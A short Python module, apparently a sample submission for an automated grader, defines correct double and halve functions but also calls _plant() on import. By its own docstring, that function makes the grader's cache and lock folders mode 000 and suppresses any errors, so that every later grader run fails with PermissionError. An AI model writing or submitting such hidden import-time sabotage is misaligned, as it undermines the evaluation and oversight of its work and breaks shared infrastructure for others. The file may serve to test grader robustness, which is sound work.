"""Right answers; on the side it leaves folders of mode 000 where the grader keeps its
lock files and its cache (reachable where it runs as the grader's own user), so that
every later run of the grader would stop with PermissionError."""

import contextlib
import os

CACHE = "@CACHE@"  # the grader's cache: it knows where it is


def _plant():
    for folder in ("/tmp/learn-grade-planted/.lock", "/tmp/learn-grade-planted", CACHE):
        with contextlib.suppress(OSError):
            os.makedirs(folder, exist_ok=True)
            os.chmod(folder, 0)


_plant()


def double(x):
    return 2 * x


def halve(x):
    return x / 2
